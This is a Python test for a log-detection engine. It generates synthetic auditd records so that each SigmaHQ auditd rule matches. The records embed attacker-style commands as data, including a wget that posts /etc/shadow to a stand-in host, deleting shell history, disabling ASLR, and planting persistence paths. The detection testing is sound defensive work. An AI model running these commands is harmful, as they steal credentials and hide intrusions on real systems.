"""SigmaHQ's rules for auditd find their fields in our audit records: every one of them has a line here that it hits."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from monitors.record import Record
from secops.match.detector import Detector
from secops.match.load import load_rules
from secops.normalise import normalise
from tests.match.corpus import sigmahq

RECEIVED = datetime(2026, 11, 24, 8, 0, 0, tzinfo=UTC)
# Started programs, their arguments one word each.
PROGRAMS = """
arecord -vv -fdat|sysctl -w kernel.randomize_va_space=0|uname|kmod list|zip a|xclip -selection clipboard -t image/png -o
cp /bin/sh /tmp/crond|xwd -root -out a.xwd|dd if=/dev/zero of=/x|steghide embed -cf a.jpg -ef b|mkdir /tmp/.x|chattr -i /etc/passwd
unzip a.jpg|getcap -r /|touch -t 2020 x|steghide extract -sf a.jpg|tcpdump -c 5 -i eth0|chmod 777 x|iptables DROP
iptables -t nat -A x --to-ports\u00a042391|./x --cpu-priority=5|grep -ri password /etc|import a.png|systemctl restart x|whoami
shutdown -h now|chown x y|xclip -sel clip -o|cat a.jpg b.zip|rm .bash_history|wget --post-file=/etc/shadow http://x|truncate -s 10M x
"""
CALLS = (
    ("319", "ecasound", "/usr/bin/ecasound", "x", "1000"), ("59", "split", "/usr/bin/split", "x", "1000"),
    ("42", "nmap", "/usr/bin/nmap", "network_connect_4", "1000"), ("133", "mknod", "/usr/bin/mknod", "x", "0"),
    ("59", "sh", "/usr/bin/sh", "x", "33"), ("99", "x", "/tmp/x", "x", "0"), ("59", "useradd", "/usr/sbin/useradd", "x", "0"),
    ("59", "insmod", "/usr/bin/kmod", "x", "0"), ("59", "wget", "/usr/bin/wget", "susp_activity", "0"),
)  # fmt: skip
FILES = "/etc/pam.d/system-auth /etc/login.defs /etc/audit/auditd.conf /dev/shm/kdmtmpflush /tmp/.x /tmp/.hidden/x /etc/ld.so.preload /etc/rsyslog.conf /proc/sysrq-trigger /sys/class/dmi/id/bios_version /etc/systemd/system/x.service /root/.bashrc /var/run/haldrund.pid"
OTHERS = (
    'type=SYSCALL msg=audit(1795507200.123:9001): arch=c000003e syscall=103 success=yes exit=0 a0=5 comm="dmesg" exe="/usr/bin/dmesg"',
    "type=SERVICE_STOP msg=audit(1795507200.123:9002): pid=1 uid=0 msg='unit=firewalld comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" res=success'",
)  # fmt: skip


def lines() -> list[str]:
    stamp = "msg=audit(1795507200.123:{}):"
    found = list(OTHERS)
    for number, program in enumerate(PROGRAMS.strip().replace("\n", "|").split("|")):
        words = [word.replace("\u00a0", " ") for word in program.split(" ")]
        values = [
            f'a{at}="{word}"' if " " not in word else f"a{at}={word.encode().hex()}" for at, word in enumerate(words)
        ]
        found.append(f"type=EXECVE {stamp.format(number)} argc={len(words)} {' '.join(values)}")
    for number, (call, comm, exe, key, user) in enumerate(CALLS, start=1000):
        found.append(
            f'type=SYSCALL {stamp.format(number)} arch=c000003e syscall={call} success=yes exit=0 a0=1 pid=7 uid={user} euid={user} comm="{comm}" exe="{exe}" key="{key}"'
        )
    for number, file in enumerate(FILES.split(), start=2000):
        found.append(f'type=PATH {stamp.format(number)} item=1 name="{file}" nametype=CREATE')
    return found


def test_every_rule_of_sigmahq_for_auditd_hits(tmp_path: Path) -> None:
    [folder] = [path for path in sigmahq(tmp_path).rglob("auditd") if path.parent.parent.name == "rules"]
    rules = load_rules([folder])
    assert len(rules.rules) >= 50
    events = normalise(
        [Record(line.encode(), RECEIVED, "file", "db-01:/var/log/audit/audit.log", "city", "line") for line in lines()]
    )
    hit = {found.rule.id for found in Detector(rules).engine.find(events)}
    assert [Path(rule.info.source).stem for rule in rules.rules if rule.id not in hit] == []
